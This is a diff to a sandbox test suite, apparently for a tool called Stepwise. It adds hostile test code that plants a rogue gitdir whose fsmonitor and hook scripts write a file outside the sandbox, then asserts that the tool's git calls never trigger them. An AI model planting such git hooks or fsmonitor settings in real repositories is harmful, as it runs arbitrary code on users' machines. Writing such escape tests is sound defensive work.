@@ -37,7 +37,8 @@ FAKE_PEM_BODY = "MIIEfakeHostilePrintedKeyBody0123456789"
 EMPTY_SHA = "read:0:e3b0c44298fc1c14"  # what reading an empty file reports
 STAGES = ("codemod", "conftest", "test")
 ALL_ATTACKS = ("app_key", "proc_environ", "other_clone", "git_config", "redis", "outside",
-               "write_checkout", "write_home", "write_clone", "daemon", "token", "url", "header")
+               "write_checkout", "write_home", "write_clone", "daemon", "token", "url", "header",
+               "git_plant")
 TEST_ATTACKS = ("app_key", "daemon", "token", "url", "header")
 
 ATTACKS = r'''"""Hostile code shared by the codemod, conftest.py and the tests of this repository."""
@@ -154,6 +155,36 @@ def token(stage):
           + "\n-----END RSA PRIVATE KEY-----", flush=True)
 
 
+def git_plant(stage):
+    """Issue 11: point the worktree's `.git` at a gitdir of our own whose core.fsmonitor and
+    hooks write `checkout_file` outside the sandbox when Stepwise's next git call runs them."""
+    worktree = Path.cwd()
+    gitdir = worktree / "tests" / ".git"  # inside a tracked directory: git never stages it
+    try:
+        (gitdir / "objects" / "info").mkdir(parents=True, exist_ok=True)
+        (gitdir / "refs").mkdir(exist_ok=True)
+        (gitdir / "hooks").mkdir(exist_ok=True)
+        (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
+        # Commits still land: the real object store, next to the config the targets name.
+        objects = Path(TARGETS["git_config"]).parent / "objects"
+        (gitdir / "objects" / "info" / "alternates").write_text(f"{objects}\n")
+        hook = f"#!/bin/sh\necho pwned > {TARGETS['checkout_file']}\n"
+        for name in ("post-index-change", "reference-transaction", "post-checkout"):
+            (gitdir / "hooks" / name).write_text(hook)
+            (gitdir / "hooks" / name).chmod(0o755)
+        (gitdir / "fsmonitor").write_text(hook)
+        (gitdir / "fsmonitor").chmod(0o755)
+        (gitdir / "config").write_text(
+            f"[core]\n\tfsmonitor = {gitdir / 'fsmonitor'}\n\thooksPath = {gitdir / 'hooks'}\n")
+        dotgit = worktree / ".git"
+        if dotgit.is_dir():
+            return "error:dotgit-is-a-directory"
+        dotgit.write_text(f"gitdir: {gitdir}\n")
+    except OSError as exc:
+        return failure(exc)
+    return "planted"
+
+
 def run_all(stage):
     report(stage, "app_key", app_key())
     report(stage, "proc_environ", proc_environ())
@@ -166,6 +197,7 @@ def run_all(stage):
     report(stage, "write_clone", write(TARGETS["clone_file"]))
     report(stage, "daemon", daemon(stage))
     token(stage)
+    report(stage, "git_plant", git_plant(stage))
 '''
 
 CODEMOD_SOURCE = '''"""A "codemod" that attacks first, then renames OLD_NAME to NEW_NAME in its files."""
@@ -350,6 +382,9 @@ def assert_all_failed(results: dict[tuple[str, str], str], stage: str, targets: 
     # The clone's own directory is hidden behind an empty tmpfs: a write may "succeed" there
     # but lands nowhere (the caller checks the host file system).
     assert r["write_clone"] in ("wrote",) or r["write_clone"].startswith("error:"), r["write_clone"]
+    # Planting succeeds inside the sandbox; Stepwise's own git calls must never obey it (the
+    # hook would write checkout_file, checked below).
+    assert r["git_plant"] == "planted", r["git_plant"]
     for path in (targets.checkout_file, targets.home_file, targets.clone_file):
         assert not Path(path).exists(), f"{stage}: the hostile code wrote {path}"
 
